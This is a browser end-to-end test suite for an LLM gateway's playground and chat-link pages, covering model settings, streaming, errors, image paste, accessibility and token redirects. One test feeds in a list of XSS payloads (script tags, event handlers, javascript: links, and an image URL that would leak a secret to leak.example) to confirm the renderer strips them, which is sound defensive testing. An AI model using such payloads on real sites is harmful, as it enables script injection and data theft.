/** The playground and the chat links in a real browser, with a real Weir and a fake upstream. */
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, setDefaultTimeout, test } from "bun:test";
import type { Page } from "playwright-core";
import { type ConsolePage, launchBrowser, type PageOptions, TEST_LIMIT, type TestBrowser } from "../kit/browser";
import { chooseFromSubmenu } from "../kit/browser-wait";
import { type FakeUpstream, startFakeUpstream } from "../kit/fake-upstream/server";
import { required } from "../kit/required";
import { paste, type } from "../kit/typing";
import { type Session, startWeir, type Weir } from "../kit/weir";

setDefaultTimeout(TEST_LIMIT);

const noChromium = required("chromium") === undefined;
const MODELS = ["gpt-4o-mini", "words:6", "paced:200:50", "reasoning", "tool-split", "error-429", "error-midstream:2"];
let upstream: FakeUpstream;
let site: ReturnType<typeof Bun.serve>;
let weir: Weir;
let browser: TestBrowser;
let user: Session;
let opened: ConsolePage[] = [];

beforeAll(async () => {
  if (noChromium) return;
  // First: it builds the console that the server then serves.
  browser = await launchBrowser();
  upstream = startFakeUpstream();
  // An external chat page that shows the address it was opened with.
  site = Bun.serve({
    port: 0,
    hostname: "127.0.0.1",
    fetch: () =>
      new Response("<!doctype html><title>chat</title><p id=a></p><script>a.textContent = location.search</script>", {
        headers: { "content-type": "text/html" },
      }),
  });
  weir = await startWeir();
  await weir.setOption("GroupRatio", { default: 1, vip: 2 });
  await weir.setOption("UserUsableGroups", { default: "默认分组", vip: "VIP 分组" });
  await weir.newChannel({ base_url: upstream.url, models: MODELS, group: "default,vip" });
  await weir.priceModels(Object.fromEntries(MODELS.map((model) => [model, 1])));
}, 120_000);

afterAll(async () => {
  await browser?.close();
  await weir?.stop();
  await site?.stop(true);
  upstream?.close();
});

beforeEach(async () => {
  if (noChromium) return;
  user = await weir.newUser({ quota: 50_000_000 });
  await weir.setOption("Chats", []);
  await weir.setOption("ChatLink", "");
});

afterEach(async () => {
  const pages = opened;
  opened = [];
  for (const { close } of pages) await close();
  for (const { check } of pages) check();
});

async function open(path = "/playground", options: PageOptions = {}): Promise<ConsolePage> {
  const page = await browser.open(weir.url + path, { as: user, ...options });
  opened.push(page);
  return page;
}

const answers = (page: Page) => page.getByRole("article");
const lastBody = () => JSON.parse(upstream.journal.last().body) as Record<string, unknown>;

/** Enter sends, so a text of several lines is pasted. */
async function say(page: Page, text: string): Promise<void> {
  await (text.includes("\n") ? paste : type)(page.getByLabel("消息", { exact: true }), text);
  await page.getByRole("button", { name: "发送" }).click();
}

async function choose(page: Page, model: string, field = "模型"): Promise<void> {
  await page.getByRole("combobox", { name: field, exact: true }).click();
  await page.getByRole("option", { name: model, exact: true }).click();
}

const done = (page: Page) => page.locator("article[data-state=complete]").last().waitFor();

describe.skipIf(noChromium)("the playground", () => {
  test("a message is sent by keyboard alone with the specified defaults; its answer shows tokens and price and links to its log row", async () => {
    const { page, axe } = await open();
    // spec: C-650
    await page.getByRole("combobox", { name: "模型", exact: true }).getByText("gpt-4o-mini").waitFor();
    await page.getByLabel("消息", { exact: true }).focus();
    await page.keyboard.type("**hello** there");
    await page.keyboard.press("Enter");
    await done(page);
    // spec: C-028, C-163
    await answers(page).locator("strong", { hasText: "hello" }).waitFor();
    // spec: C-650, C-652
    // spec: C-163
    expect(lastBody()).toMatchObject({
      model: "gpt-4o-mini",
      stream: true,
      temperature: 0,
      messages: [{ role: "user", content: "**hello** there" }],
    });
    // spec: C-655
    expect(lastBody()).not.toHaveProperty("max_tokens");
    // spec: C-561
    expect(lastBody()).not.toHaveProperty("group");
    const link = answers(page).getByRole("link", { name: /费用 \$0\.0/ });
    await link.waitFor();
    await page.getByText(/\d+ tokens/).waitFor();
    await axe();
    await link.click();
    await page.getByRole("dialog").waitFor();
    expect(page.url()).toContain("/log?request_id=");
    await page.getByRole("dialog").getByText("playground-default").first().waitFor();
  });

  test("the settings are sent with the call, and survive a reload", async () => {
    const { page } = await open();
    await page.getByRole("combobox", { name: "分组" }).click();
    await page.getByRole("option", { name: /^vip/ }).click();
    const slider = page.getByLabel("温度");
    // spec: C-652..C-654
    expect(
      await slider.evaluate((element: HTMLInputElement) => [element.min, element.max, element.step, element.value]),
    ).toEqual(["0.1", "1", "0.1", "0.1"]);
    await slider.focus();
    for (let i = 0; i < 6; i++) await page.keyboard.press("ArrowRight");
    await type(page.getByLabel("最大 token 数"), "64");
    await type(page.getByLabel("系统提示词"), "be brief");
    await choose(page, "words:6");
    await say(page, "one");
    await done(page);
    // spec: C-165, C-166, C-167, C-168
    expect(lastBody()).toMatchObject({
      model: "words:6",
      temperature: 0.7,
      max_tokens: 64,
      messages: [
        { role: "system", content: "be brief" },
        { role: "user", content: "one" },
      ],
    });
    // spec: C-164
    expect((await weir.waitForLog((row) => row.user_id === user.id)).token_name).toBe("playground-vip");
    await page.reload();
    await page.getByRole("combobox", { name: "模型", exact: true }).getByText("words:6").waitFor();
    expect(await page.getByLabel("温度").inputValue()).toBe("0.7");
    expect(await page.getByLabel("系统提示词").inputValue()).toBe("be brief");
    await page.getByRole("button", { name: "历史对话" }).click();
    await page.getByRole("menuitemradio", { name: /one/ }).click();
    await answers(page).first().waitFor();
  });

  test("a stopped answer keeps its text and is charged for it; an edited message drops everything after it", async () => {
    const { page } = await open();
    await choose(page, "paced:200:50");
    await say(page, "count");
    // spec: C-396
    await page.locator("article[data-state=incomplete]").waitFor();
    await page.waitForFunction(() => (document.querySelector("article")?.textContent ?? "").length > 20);
    await page.getByRole("button", { name: "停止" }).click();
    // spec: C-396
    await answers(page).getByText("已停止").waitFor();
    expect((await answers(page).innerText()).length).toBeGreaterThan(10);
    expect((await weir.waitForLog((row) => row.user_id === user.id, 20_000)).end_reason).toBe("caller_left");
    await choose(page, "gpt-4o-mini");
    await say(page, "second");
    await done(page);
    expect((lastBody().messages as unknown[]).length).toBe(3);
    await page.getByRole("button", { name: "编辑消息" }).first().click();
    await type(page.getByRole("textbox", { name: "编辑消息" }), "changed");
    await page.keyboard.press("Control+Enter");
    await done(page);
    expect(await answers(page).count()).toBe(1);
    expect(lastBody().messages).toEqual([{ role: "user", content: "changed" }]);
    await page.getByRole("button", { name: "重新生成" }).click();
    await done(page);
    expect(await answers(page).count()).toBe(1);
  });

  test("a failed call is a red bubble with status, message and a retry; a broken stream marks the partial answer", async () => {
    const { page, expectProblem, axe } = await open();
    expectProblem("429");
    await choose(page, "error-429");
    await say(page, "hello");
    const alert = answers(page).getByRole("alert");
    // spec: C-398
    await alert.getByText(/^429 · /).waitFor();
    await axe();
    const before = upstream.journal.entries.length;
    await alert.getByRole("button", { name: "重试" }).click();
    await alert.getByText(/^429 · /).waitFor();
    expect(upstream.journal.entries.length).toBeGreaterThan(before);
    await page.getByRole("button", { name: "新对话" }).click();
    await choose(page, "error-midstream:2");
    await say(page, "hello");
    // spec: C-589
    await page.locator("article[data-state=error]").getByRole("alert").waitFor();
    await page.getByRole("button", { name: "复制回答" }).waitFor();
  });

  test("reasoning is folded, tool calls are shown with their arguments", async () => {
    const { page } = await open();
    await choose(page, "reasoning");
    await say(page, "why");
    await done(page);
    const fold = page.getByRole("button", { name: "思考过程" });
    expect(await fold.getAttribute("aria-expanded")).toBe("false");
    await fold.click();
    expect(await fold.getAttribute("aria-expanded")).toBe("true");
    await page.getByRole("button", { name: "新对话" }).click();
    await choose(page, "tool-split");
    await say(page, "weather");
    await done(page);
    await page
      .getByText(/^调用工具 \w+/)
      .first()
      .waitFor();
    expect(JSON.parse(await page.getByLabel("工具参数").first().innerText())).toBeObject();
  });

  test("up to three models answer side by side, and each continues with its own answers", async () => {
    const { page, axe, screenshot } = await open();
    await page.getByRole("button", { name: "添加对比模型" }).click();
    await page.getByRole("button", { name: "添加对比模型" }).click();
    expect(await page.getByRole("button", { name: "添加对比模型" }).count()).toBe(0);
    await choose(page, "words:6", "模型 2");
    await choose(page, "reasoning", "模型 3");
    await say(page, "compare");
    await page.waitForFunction(() => document.querySelectorAll("article[data-state=complete]").length === 3);
    await page.getByRole("link", { name: /费用/ }).nth(2).waitFor();
    await axe();
    await screenshot("playground-compare");
    upstream.journal.clear();
    await say(page, "again");
    await page.waitForFunction(() => document.querySelectorAll("article[data-state=complete]").length === 6);
    const sent = upstream.journal.entries.map(
      ({ body }) => JSON.parse(body) as { model: string; messages: { content: string }[] },
    );
    const spoken = (model: string) => sent.find((body) => body.model === model)?.messages[1]?.content;
    expect(spoken("gpt-4o-mini")).toContain("compare");
    expect(spoken("words:6")).not.toBe(spoken("gpt-4o-mini"));
  });

  test("a pasted image is sent as an image part", async () => {
    const { page } = await open();
    const message = page.getByLabel("消息", { exact: true });
    await type(message, "what is this");
    await message.evaluate(async (element) => {
      const canvas = Object.assign(document.createElement("canvas"), { width: 8, height: 8 });
      const blob = await new Promise<Blob | null>((resolve) => canvas.toBlob(resolve));
      const data = new DataTransfer();
      if (blob) data.items.add(new File([blob], "a.png", { type: "image/png" }));
      element.dispatchEvent(new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true }));
    });
    await page.getByRole("img", { name: "附图 1" }).waitFor();
    await page.getByRole("button", { name: "发送" }).click();
    await done(page);
    expect(lastBody().messages).toEqual([
      {
        role: "user",
        content: [
          { type: "text", text: "what is this" },
          { type: "image_url", image_url: { url: expect.stringMatching(/^data:image\/jpeg;base64,/) } },
        ],
      },
    ]);
  });

  test("the code tab shows the same request", async () => {
    const { page } = await open();
    await type(page.getByLabel("消息", { exact: true }), "as code");
    await page.getByRole("tab", { name: "代码" }).click();
    const code = await page.locator("pre[aria-label=curl]").innerText();
    expect(code).toContain(`${weir.url}/v1/chat/completions`);
    expect(code).toContain('"content": "as code"');
    await page.getByRole("tab", { name: "Python" }).click();
    expect(await page.locator("pre[aria-label=Python]").innerText()).toContain('"content": "as code"');
  });

  test("what a model writes runs nothing and fetches nothing", async () => {
    const { page } = await open();
    const requests: string[] = [];
    page.on("request", (request) => requests.push(request.url()));
    let dialogs = 0;
    page.on("dialog", (dialog) => {
      dialogs++;
      void dialog.dismiss();
    });
    const payload = [
      "<script>window.pwned=1</script>",
      "<img src=x onerror=window.pwned=2>",
      "<svg onload=window.pwned=3><animate onbegin=alert(1)></svg>",
      "<iframe src=javascript:parent.pwned=4></iframe>",
      "[a](javascript:window.pwned=5)",
      "[b](JaVaScRiPt:alert(1))",
      "[c](data:text/html,<script>alert(1)</script>)",
      "![d](https://leak.example/?q=secret)",
      "![e](javascript:alert(1))",
      "![f](data:image/svg+xml,<svg/onload=alert(1)>)",
      "<https://ok.example>",
      '<a href="javascript:alert(1)">g</a>',
      "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
      "[h](vbscript:msgbox)",
      "<form action=https://leak.example><button>h</button></form>",
      "[i]: javascript:alert(1)",
      "[i]",
      "<style>*{display:none}</style>",
      "`<b>`",
    ].join("\n\n");
    await say(page, payload);
    await done(page);
    const answer = answers(page);
    await answer.getByText("<script>window.pwned=1</script>").waitFor();
    const found = await answer.evaluate((element) => ({
      odd: element.querySelectorAll("script, iframe, img, object, embed, form, style, math").length,
      handlers: [...element.querySelectorAll("*")].filter((item) =>
        [...item.attributes].some(({ name }) => name.startsWith("on")),
      ).length,
      links: [...element.querySelectorAll("a")].map((link) => link.getAttribute("href") ?? ""),
    }));
    expect(found.odd).toBe(0);
    expect(found.handlers).toBe(0);
    for (const link of found.links) expect(link).toMatch(/^(https?:\/\/|\/log\?)/);
    for (const link of await answer.locator("a[target=_blank]").all())
      expect(await link.getAttribute("rel")).toContain("noopener");
    expect(await page.evaluate(() => Reflect.get(window, "pwned") as unknown)).toBeUndefined();
    expect(dialogs).toBe(0);
    expect(requests.filter((url) => !url.startsWith(weir.url) && !url.startsWith("data:"))).toEqual([]);
  });

  test("an expired session is reported, both on arrival with ?expired and when a call fails", async () => {
    const { page, expectProblem } = await open("/playground?expired=true");
    // spec: C-571
    await page.getByText("未登录或登录已过期，请重新登录！").waitFor();
    expectProblem("401");
    // All calls of the page have finished, so the message is the first call to fail.
    await page.getByRole("combobox", { name: "模型", exact: true }).getByText("gpt-4o-mini").waitFor();
    await type(page.getByLabel("消息", { exact: true }), "hello");
    await user.api("GET", "/api/user/logout");
    await page.keyboard.press("Enter");
    await page.waitForURL(/\/login\?expired=true/);
  });

  for (const theme of ["light", "dark"] as const) {
    test(`it fits a phone and passes axe, ${theme}`, async () => {
      const { page, axe, screenshot } = await open("/playground", { viewport: "phone", theme });
      await say(
        page,
        "# Title\n\nSome **words** and `code`:\n\n```ts\nconst a_rather_long_name = await somethingThatDoesNotFitIntoThreeHundredAndNinetyPixels();\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n- two",
      );
      await done(page);
      await page.getByRole("link", { name: /费用/ }).waitFor();
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
      await axe();
      await screenshot(`playground-phone-${theme}`);
      await page.getByRole("button", { name: "设置", exact: true }).click();
      await page.getByRole("dialog").getByLabel("温度").waitFor();
      await axe();
      await screenshot(`playground-phone-settings-${theme}`);
    });
  }

  for (const [language, theme] of [
    ["zh", "light"],
    ["en", "dark"],
  ] as const) {
    test(`it passes axe on a desktop, ${language}, ${theme}`, async () => {
      const { page, axe, screenshot } = await open("/playground", { language, theme });
      await page.getByText("gpt-4o-mini").waitFor();
      await axe();
      await paste(
        page.locator("form textarea"),
        "1. first\n2. second\n\n> quoted\n\n```py\nprint('x')\n```\n\n[link](https://example.com)",
      );
      await page.keyboard.press("Tab");
      await page.locator("form textarea").press("Enter");
      await done(page);
      await axe();
      await screenshot(`playground-${language}-${theme}`);
    });
  }
});

describe.skipIf(noChromium)("chat links", () => {
  const chats = () => [
    { Web: `http://127.0.0.1:${site.port}/chat?k={key}&a={address}&x={other}` },
    { Desk: "weir-test://open?k={key}" },
  ];

  test("a web chat is framed with the user's first enabled token, under a policy that names its origin and no other", async () => {
    await weir.setOption("Chats", chats());
    const off = await weir.newToken({ name: "off" }, user);
    await user.ok("PUT", "/api/token/?status_only=1", { id: off.id, status: 2 });
    const { key } = await weir.newToken({ name: "on" }, user);
    const policy = (await fetch(`${weir.url}/chat`, { headers: { accept: "text/html" } })).headers.get(
      "content-security-policy",
    );
    // spec: C-048
    expect(policy).toContain(`; frame-src http://127.0.0.1:${site.port};`);
    for (const path of ["/chat", "/chat/0"]) {
      const { page } = await open(path);
      const frame = page.frameLocator("iframe");
      // spec: C-037, C-038, C-047, C-049
      await frame.getByText(`?k=${key}&a=${encodeURIComponent(weir.url)}&x={other}`).waitFor();
      expect(await page.locator("iframe").getAttribute("sandbox")).toContain("allow-scripts");
    }
    const { page, axe } = await open("/token");
    await page.getByRole("navigation", { name: "主菜单" }).getByRole("link", { name: "Web" }).click();
    await page.waitForURL("**/chat/0");
    await page.locator("iframe").waitFor();
    await axe();
  });

  test("a program's link is opened, never framed", async () => {
    await weir.setOption("Chats", chats());
    await weir.newToken({}, user);
    const { page, expectProblem } = await open("/chat/1");
    expectProblem("weir-test");
    await page.getByRole("button", { name: "打开 Desk" }).waitFor();
    // spec: C-048
    expect(await page.locator("iframe").count()).toBe(0);
  });

  test("wrong, missing and unreadable links have the specified messages", async () => {
    const empty = await open("/chat");
    // spec: C-575
    await empty.page.getByText("请联系管理员配置聊天链接").first().waitFor();
    const none = await open("/chat2link");
    // spec: C-050
    await none.page.getByText("请联系管理员配置聊天链接").first().waitFor();
    await weir.setOption("Chats", chats());
    for (const path of ["/chat/99", "/chat/x"]) {
      const { page } = await open(path);
      // spec: C-574
      // spec: C-047
      await page.getByText("聊天链接配置错误，请联系管理员").first().waitFor();
    }
    const broken = await open("/token");
    await broken.page.getByRole("link", { name: "Web" }).waitFor();
    await broken.page.evaluate(() => localStorage.setItem("chats", "{"));
    await broken.page.getByRole("navigation", { name: "主菜单" }).getByRole("link", { name: "聊天" }).click();
    // spec: C-576
    await broken.page.getByText("聊天数据解析失败").first().waitFor();
  });

  test("without an enabled token it says so and redirects to the tokens after 1.5 seconds", async () => {
    await weir.setOption("Chats", chats());
    const { page } = await open("/log");
    let known = 0;
    page.on("response", (response) => {
      if (response.url().includes("token.list")) known ||= performance.now();
    });
    await page.goto(`${weir.url}/chat2link`);
    // spec: C-580, C-582
    await page.getByText("当前没有可用的启用令牌，请先创建或启用一个令牌！").waitFor();
    await page.waitForURL("**/token");
    // Measured from the response, not from the text on screen: a busy machine shows both late.
    // spec: C-581
    expect(performance.now() - known).toBeGreaterThan(1400);
  });

  test("/chat2link prefers the operator's chat link and redirects there with the first enabled token", async () => {
    await weir.setOption("Chats", chats());
    const { key } = await weir.newToken({}, user);
    const first = await open("/chat2link");
    // spec: C-039, C-050
    await first.page.waitForURL(`http://127.0.0.1:${site.port}/chat?k=${key}**`);
    await weir.setOption("ChatLink", `http://127.0.0.1:${site.port}/own?k={key}`);
    const second = await open("/chat2link");
    // spec: C-039, C-050
    // spec: A-199
    await second.page.waitForURL(`http://127.0.0.1:${site.port}/own?k=${key}`);
  });

  test("a token's row opens the chosen chat in a tab of its own with that token", async () => {
    const { key } = await weir.newToken({ name: "mine" }, user);
    const bare = await open("/token");
    const menu = async (page: Page) => {
      await page.locator("[data-row]").filter({ hasText: "mine" }).getByRole("button", { name: "行菜单" }).click();
    };
    await menu(bare.page);
    await bare.page.getByRole("menuitem", { name: "聊天" }).click();
    // spec: C-114
    await bare.page.getByText("请联系管理员配置聊天链接").waitFor();
    await weir.setOption("Chats", chats());
    const { page, context } = await open("/token");
    await page.getByRole("link", { name: "Web" }).waitFor();
    await menu(page);
    const tab = context.waitForEvent("page");
    await chooseFromSubmenu(
      page,
      page.getByRole("menuitem", { name: "聊天" }),
      page.getByRole("menuitem", { name: "Web" }),
    );
    // spec: C-113
    // spec: A-197
    await (await tab).waitForURL(`http://127.0.0.1:${site.port}/chat?k=${key}**`);
  });
});
